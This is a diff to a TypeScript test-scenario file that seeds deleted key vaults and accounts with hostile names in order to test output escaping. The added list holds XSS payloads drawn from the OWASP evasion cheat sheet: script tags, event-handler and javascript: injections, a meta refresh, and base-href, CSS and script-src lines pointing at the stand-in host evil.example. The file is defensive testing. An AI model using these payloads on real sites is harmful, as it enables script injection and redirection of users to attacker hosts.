@@ -79,6 +79,7 @@ export const hostileNames: Scenario = {
         resourceGroup: "rg-test",
         location: "westeurope",
         deletedDaysAgo: 10,
+        deletedBy: name,
         tags: { [name]: name },
       })),
       deletedAccounts: hostile.map((name) => ({
@@ -93,6 +94,60 @@ export const hostileNames: Scenario = {
       })),
       malformedDeletedVaults: [null, "a string", { properties: {} }],
       malformedDeletedAccounts: [null, "a string", { location: "westeurope" }],
+    },
+  ],
+};
+
+const ran = "window.ran=1";
+
+/**
+ * Names that try to become a part of a page, of each known way one; an address can hold them all.
+ * Source: cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
+ */
+export const injections: readonly string[] = [
+  `<script>${ran}<\u2215script>`,
+  `<script src=https:evil.example>`,
+  `<img src=x onerror=${ran}>`,
+  `<svg onload=${ran}>`,
+  `<iframe srcdoc="<script>${ran}">`,
+  `<a href="javascript:${ran}">x`,
+  `" autofocus onfocus="${ran}`,
+  `' onmouseover='${ran}`,
+  `&lt;img src=x onerror=${ran}&gt;&#60;b&#62;`,
+  `<style>*{background:url(https:evil.example)}`,
+  `<meta http-equiv=refresh content="0;url=https:evil.example">`,
+  `<base href=https:evil.example><form action=x><input name=typed>`,
+  "${" + ran + "} {{" + ran + "}} `" + ran + "`",
+  `\u202e<gmi>\u0000<b>\u2066`,
+].map((name, index) => `kv${String(index + 10)} ${name}`);
+
+/** Vaults of those names, and an account whose region closes whatever it stands in. */
+export const injectedNames: Scenario = {
+  name: "injectedNames",
+  tenants: [contoso],
+  people: [dana],
+  subscriptions: [
+    {
+      ...testSubscription,
+      deletedVaults: injections.map((name) => ({
+        name,
+        resourceGroup: "rg-test",
+        location: "westeurope",
+        deletedDaysAgo: 10,
+        deletedBy: name,
+        tags: { [name]: name },
+      })),
+      deletedAccounts: [
+        {
+          name: "ai-region",
+          kind: "OpenAI",
+          sku: "S0",
+          resourceGroup: "rg-test",
+          location: "westeurope",
+          locationAs: `</dd></title></script><script>${ran}</script>`,
+          deletedHoursAgo: 10,
+        },
+      ],
     },
   ],
 };
